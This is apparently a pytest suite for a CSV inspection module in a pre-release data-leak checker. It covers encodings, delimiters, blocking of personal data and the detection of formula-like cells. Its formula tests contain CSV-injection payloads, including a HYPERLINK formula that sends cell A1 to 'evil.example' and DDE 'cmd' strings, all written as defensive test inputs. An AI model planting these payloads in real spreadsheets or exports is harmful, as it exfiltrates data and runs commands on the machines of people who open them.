"""Delimited text (foi_guard/formats/csv.py): encodings and delimiters are recognised, every
cell is content at its record and field, formula-like cells are reported, people in a CSV block
and clean statistics pass, and what cannot be read is an error. Then the real-world corpus."""

from __future__ import annotations

import csv
import random
import time
from collections import Counter
from pathlib import Path
from typing import Any

import pytest

from foi_guard.formats import csv as delimited
from foi_guard.formats import inspect_data
from foi_guard.formats.base import Context
from foi_guard.limits import Deadline, Limits
from foi_guard.model import ContentUnit, Fact, InspectionError
from foi_guard.pipeline import scan_path
from foi_guard.policy import load_policy
from foi_guard.report import json as json_report
from foi_guard.sniff import sniff
from tests.conftest import corpus_dir
from tests.fixtures.ods_fixtures import district_rows
from tests.fixtures.xlsx_fixtures import OFFICERS, SURNAMES

WESTERN = "Item,Cost,Note\nCafé Nero,£120,Renée paid\nTeas,£5,crème brûlée\n"


def _items(data: bytes, seconds: float = 60) -> list[Any]:
    return list(inspect_data(data, Context(Limits(), Deadline(seconds))))


def _grid(data: bytes) -> dict[tuple[int, int], str]:
    return {(u.row, u.column): u.value for u in _items(data) if isinstance(u, ContentUnit)}


def _csv_text(rows: list[list[object]], delimiter: str = ",") -> str:
    lines = []
    for row in rows:
        cells = [str(v) for v in row]
        lines.append(delimiter.join(f'"{c}"' if delimiter in c or "\n" in c else c
                                    for c in cells))
    return "\r\n".join(lines) + "\r\n"


# --- encodings --------------------------------------------------------------------------------
@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "utf-16-be-bom", "cp1252"])
def test_encodings_are_recognised(encoding: str) -> None:
    if encoding == "utf-16-be-bom":
        data = b"\xfe\xff" + WESTERN.encode("utf-16-be")
    else:
        data = WESTERN.encode(encoding)
    assert sniff(data) == "text"
    grid = _grid(data)
    assert grid[(2, 1)] == "Café Nero" and grid[(2, 2)] == "£120"
    assert grid[(3, 3)] == "crème brûlée" and grid[(1, 1)] == "Item"


def test_utf16_and_utf32_without_a_mark_are_decoded() -> None:
    for encoding in ("utf-16-le", "utf-16-be", "utf-32-le", "utf-32-be"):
        assert delimited.decode(WESTERN.encode(encoding)) == WESTERN, encoding


def test_utf8_with_one_bad_byte_stays_utf8() -> None:
    text = ("Name,Town\nRenée,Derry\n" * 50).encode() + b"Caf\xe9,Omagh\n"
    decoded = delimited.decode(text)
    assert "Renée" in decoded and decoded.endswith("Caf\ufffd,Omagh\n")


def test_encoding_choice_is_deterministic() -> None:
    data = "Nom;Société;Montant\nA;Crédit Agricole;£12\n".encode("cp1252")
    assert len({delimited.decode(data) for _ in range(3)}) == 1
    assert "Société" in delimited.decode(data) and "£12" in delimited.decode(data)


# --- delimiters and records -------------------------------------------------------------------
@pytest.mark.parametrize("delimiter", [",", ";", "\t", "|"])
def test_delimiters_are_recognised(delimiter: str) -> None:
    rows = [["District", "Rate", "Count"], ["Belfast City", "1,5", "12"],
            ["Mid Ulster", "2,25", "7"], ["Fermanagh & Omagh", "0,5", "3"]]
    text = _csv_text(rows, delimiter)
    assert delimited.detect_delimiter(text) == delimiter
    grid = _grid(text.encode())
    assert grid[(2, 1)] == "Belfast City" and grid[(2, 2)] == "1,5" and grid[(4, 3)] == "3"


def test_quoted_fields_keep_their_line_breaks_and_records_are_numbered() -> None:
    data = b'Ref,Note\r\n1,"line one\nline two"\r\n2,plain\r\n'
    grid = _grid(data)
    assert grid[(2, 2)] == "line one\nline two"
    assert grid[(3, 1)] == "2" and grid[(3, 2)] == "plain"


def test_cells_are_content_with_grid_coordinates() -> None:
    units = [u for u in _items(b"District,Count\nBelfast,12\n") if isinstance(u, ContentUnit)]
    assert {(u.part, u.sheet, u.detail, u.hidden) for u in units} == {("data", None, None, ())}
    assert [u.is_number for u in units] == [False, False, False, True]


# --- judgement --------------------------------------------------------------------------------
def test_a_csv_of_officers_blocks(tmp_path: Path) -> None:
    rows: list[list[object]] = [["Surname", "Forename", "Rank", "Unit", "Station"]]
    rows += [[o[1], o[0], o[2], o[3], o[4]] for o in OFFICERS]
    path = tmp_path / "officers.csv"
    path.write_text(_csv_text(rows), encoding="utf-8")
    result = scan_path(path)
    assert str(result.verdict) == "block"
    hits = [f for f in result.findings if f.category == "personal_data"]
    assert any(f.location.columns == "A" and f.location.part == "data" for f in hits), hits
    report = json_report.render([result])
    assert not [s for s in SURNAMES if s in report]


@pytest.mark.parametrize("policy", ["default", "strict"])
def test_a_clean_stats_csv_passes(tmp_path: Path, policy: str) -> None:
    path = tmp_path / "stats.csv"
    path.write_text(_csv_text(district_rows(months=6)), encoding="utf-8")
    result = scan_path(path, policy=load_policy(policy))
    assert str(result.verdict) == "pass", [(f.rule, f.location) for f in result.findings]
    assert not result.findings


@pytest.mark.parametrize("value", [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")', "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "=A1", "=1+1",
])
def test_formula_like_cells(value: str) -> None:
    assert delimited.is_formula_like(value)


@pytest.mark.parametrize("value", ["-5", "+3.5", "=5", "-", "+44 28 9065 0222", "-1e6", "@",
                                   "-1,234.567", "Belfast", "  =A1"])
def test_not_formula_like(value: str) -> None:
    assert not delimited.is_formula_like(value)


def test_formula_like_cells_are_a_warning_naming_them(tmp_path: Path) -> None:
    rows = [*district_rows(), ["Total", '=SUM(B2:B12)', "-17", "+44 28 9065 0222"],
            ["Note", "@HYPERLINK(\"http://x.example\")", "", ""]]
    path = tmp_path / "formulas.csv"
    path.write_text(_csv_text(rows), encoding="utf-8")
    facts = [f for f in _items(path.read_bytes()) if isinstance(f, Fact)]
    assert [(f.kind, f.where) for f in facts] == [("formula_like", "cells B13, B14")]
    assert "CSV injection" in (facts[0].detail or "")
    result = scan_path(path, policy=load_policy("strict"))
    assert str(result.verdict) == "pass"
    assert [(f.rule, str(f.severity)) for f in result.findings] == [("formula_like", "warn")]


# --- what cannot be read ----------------------------------------------------------------------
def test_a_field_over_the_limit_is_an_error(monkeypatch: pytest.MonkeyPatch) -> None:
    before = csv.field_size_limit()
    monkeypatch.setattr(delimited, "MAX_FIELD_CHARS", 1000)
    try:
        with pytest.raises(InspectionError, match="longer than 1,000 characters"):
            _items(b'a,b\n1,"' + b"x" * 5000 + b'"\n')
    finally:
        csv.field_size_limit(before)


def test_binary_data_is_not_text() -> None:
    rng = random.Random(1)
    data = b"a,b\n" * 3000 + bytes(rng.randrange(256) for _ in range(40_000))
    assert sniff(data) == "text"  # the head looks like text; the rest is not
    with pytest.raises(InspectionError, match="not text"):
        _items(data)


def test_a_stray_nul_is_not_binary() -> None:
    data = b"a,b\n1,2\n" * 2000 + b"3,\x004\n"  # past the head sniff() looks at
    grid = _grid(data)
    assert grid[(4001, 1)] == "3" and grid[(4001, 2)] == "4"


def test_an_expired_deadline_stops_the_read() -> None:
    with pytest.raises(InspectionError, match="longer than"):
        _items(b"a,b\n" * 5000, seconds=0)


# --- the real-world corpus --------------------------------------------------------------------
def test_corpus_delimited_text() -> None:
    root = corpus_dir()
    if root is None:
        pytest.skip("no corpus: ../shared/corpus (or $FOI_GUARD_CORPUS) is absent")
    with (root / "MANIFEST.tsv").open(encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh, delimiter="\t"))
    verdicts: Counter[str] = Counter()
    started = time.monotonic()
    for entry in rows:
        path = root / entry["path"]
        if sniff(path.read_bytes()) != "text":
            continue
        result = scan_path(path)
        verdicts[str(result.verdict)] += 1
        assert "internal error" not in (result.error or ""), (entry["path"], result.error)
    assert sum(verdicts.values()) >= 60 and verdicts["error"] == 0, verdicts
    assert time.monotonic() - started < 60
